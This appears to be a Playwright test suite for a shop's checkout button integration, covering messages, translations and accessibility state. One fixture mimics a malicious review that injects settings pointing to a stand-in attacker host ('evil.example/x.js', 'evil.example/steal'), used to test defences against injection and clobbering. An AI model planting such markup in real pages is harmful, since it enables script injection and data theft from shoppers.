"""What a shopper is told: in which words, and where in the shop's markup."""

from __future__ import annotations

from typing import Any

import pytest
from playwright.sync_api import expect
from playwright.sync_api import Page

from ..support.browser import stop_the_clock
from .conftest import BUSY
from .conftest import BUTTON
from .conftest import expect_state
from .conftest import go_on_to_own_checkout
from .conftest import open_cart
from .conftest import Shop

DANISH = {
    "failed": "Vi kunne ikke åbne betalingen. Prøv igen.",
    "network": "Vi kunne ikke få fat i butikken. Tjek din forbindelse, og prøv igen.",
    "empty-cart": "Din kurv er tom. Læg noget i den, og prøv igen.",
}
FAILED = "We couldn’t open the checkout. Please try again."
FALLBACK = "[data-zonos-fallback]"
#: What DOMPurify's defaults let through.
REVIEW = """<p id="zonos-settings">{"scriptUrl": "https://evil.example/x.js",
"cartInfoUrl": "https://evil.example/steal", "identity": "x", "init": {}}</p>
<p data-zonos-notice="ours">Nice cup</p>
<p data-zonos-script>Nice cup</p>
<p id="Zonos">Nice cup</p> <p id="zonosCheckout">Nice cup</p>
<p id="trusted-types">Nice cup</p> <p data-zonos-fallback>Nice shop</p>"""
TWO_BUTTONS = """<p hidden><button class="order">Place order</button></p>
<p><button class="order">Place the order</button></p>"""
IN_A_LINK = """<a href="/own-checkout"><b><button type="button" id="place-order">
Place order</button></b></a>"""
PLACES = {
    "live regions": "<div data-zonos-notice><p role=status>Sale!</p>"
    "<p role=alert>Today only</p></div>",
    "a form": "<div data-zonos-notice><form><button>Redeem</button></form></div>",
}


def expect_said(page: Page, state: str, status: str = "", alert: str = "") -> None:
    expect_state(page, state)
    expect(page.get_by_role("status")).to_have_text(status)
    expect(page.get_by_role("alert")).to_have_text(alert)


def test_a_click_that_succeeds_by_keyboard(page: Page, shop: Shop) -> None:
    shop.gate.clear()
    page.clock.install()
    open_cart(page, shop)
    stop_the_clock(page)
    expect_said(page, "ready")
    page.locator(BUTTON).focus()
    page.keyboard.press("Enter")
    expect_said(page, "asking", status="Preparing your checkout…")
    expect(page.locator(BUTTON)).to_have_attribute("aria-busy", "true")
    page.keyboard.press("Enter")
    shop.gate.set()
    expect_said(page, "opening", status="Opening the checkout…")
    expect(page.locator(BUTTON)).to_be_focused()
    expect(page.locator(FALLBACK)).to_be_hidden()
    page.clock.fast_forward(4_000)
    expect_said(page, "ready")
    assert len(shop.calls) == 1


@pytest.mark.parametrize("code", DANISH)
def test_a_click_that_fails(tab: Page, shop: Shop, code: str) -> None:
    shop.lang = "da-DK"
    shop.answer = lambda: ({"code": code}, 409)
    if code == "network":
        tab.route("**/cart-info", lambda route: route.abort())
    open_cart(tab, shop)
    tab.click(BUTTON)
    expect_said(tab, "failed", alert=DANISH[code])
    if code == "empty-cart":
        expect(tab.locator(FALLBACK)).to_be_hidden()
    else:
        expect(tab.locator(FALLBACK)).to_have_text("Brug butikkens egen betaling")


@pytest.mark.parametrize(
    ("page_language", "settings", "message"),
    [
        ("en", {"language": "da"}, DANISH["failed"]),
        ("DA", {"language": "en"}, FAILED),
        ("fr", {}, FAILED),
        ("da", {"messages": {"failed": "Ring til os."}}, "Ring til os."),
    ],
)
def test_the_shops_words_count_then_the_tags_language_then_the_pages(
    tab: Page, shop: Shop, page_language: str, settings: Any, message: str
) -> None:
    shop.lang, shop.settings = page_language, settings
    shop.answer = lambda: BUSY
    open_cart(tab, shop)
    tab.click(BUTTON)
    expect(tab.get_by_role("alert")).to_have_text(message)


def test_a_click_right_after_a_reload_is_not_talked_over(tab: Page, shop: Shop) -> None:
    shop.gate.clear()
    shop.js = """sessionStorage.zonosReloaded = "identity-changed";
    document.addEventListener("zonos:ready", () =>
      document.querySelector("#place-order").click());"""
    open_cart(tab, shop)
    tab.wait_for_timeout(300)
    expect_said(tab, "asking", status="Preparing your checkout…")


def test_a_review_is_taken_for_nothing_of_ours(tab: Page, shop: Shop) -> None:
    shop.before = REVIEW
    shop.answer = lambda: BUSY
    open_cart(tab, shop)
    assert tab.evaluate("[fake.scripts, fake.inits]") == [1, 1]
    tab.get_by_text("Nice shop").click()
    tab.click(BUTTON)
    alert = tab.locator(f"{BUTTON} + div").get_by_role("alert")
    expect(alert).to_contain_text("couldn’t open")
    assert [path for path, _, _ in shop.calls] == ["/zonos/cart-info"]
    assert tab.locator("p[data-zonos-notice]").inner_text() == "Nice cup"


def test_the_trusted_types_policy_vouches_for_the_loader_alone(
    tab: Page, shop: Shop
) -> None:
    shop.js = (
        "const create = trustedTypes.createPolicy;"
        "trustedTypes.createPolicy = function (name, rules) {"
        " window.rules = rules; return create.call(trustedTypes, name, rules); }"
    )
    open_cart(tab, shop)
    foreign = "String(rules.createScriptURL('https://evil.example/x.js'))"
    assert tab.evaluate(foreign) == "/fake-zonos.js"


def test_what_is_told_of_a_button_in_a_link_stands_beside_the_link(
    tab: Page, shop: Shop
) -> None:
    shop.button = IN_A_LINK
    shop.answer = lambda: BUSY
    open_cart(tab, shop)
    tab.click(BUTTON)
    expect(tab.locator("a + div").get_by_role("alert")).to_contain_text("couldn’t")
    assert tab.locator("a [role]").count() == 0
    go_on_to_own_checkout(tab)


def test_what_is_told_stands_at_the_button_that_was_pressed(
    tab: Page, shop: Shop
) -> None:
    shop.button = TWO_BUTTONS
    shop.init = {"checkoutSettings": {"placeOrderButtonSelector": ".order"}}
    shop.answer = lambda: BUSY
    shop.gate.clear()
    open_cart(tab, shop)
    hidden, pressed = tab.locator(".order").all()
    pressed.click()
    expect(pressed).to_have_attribute("data-zonos-state", "asking")
    expect(hidden).to_have_attribute("data-zonos-state", "ready")
    shop.gate.set()
    alert = pressed.locator("xpath=following-sibling::div").get_by_role("alert")
    expect(alert).to_contain_text("couldn’t open")
    go_on_to_own_checkout(tab)


@pytest.mark.parametrize("notice", PLACES.values(), ids=PLACES)
def test_every_place_of_the_shops_tells_and_keeps_what_it_holds(
    tab: Page, shop: Shop, notice: str
) -> None:
    shop.notice = notice
    shop.answer = lambda: BUSY
    shop.gate.clear()
    place = tab.locator("[data-zonos-notice]").first
    open_cart(tab, shop)
    text = place.inner_text()
    tab.click(BUTTON)
    status = place.get_by_role("status").last
    expect(status).to_have_text("Preparing your checkout…")
    shop.gate.set()
    expect(place.get_by_role("alert").last).to_contain_text("couldn’t open")
    expect(status).to_be_empty()
    assert text in place.inner_text()
    assert tab.locator("[data-zonos-notice=ours]").count() == 1
    go_on_to_own_checkout(tab)
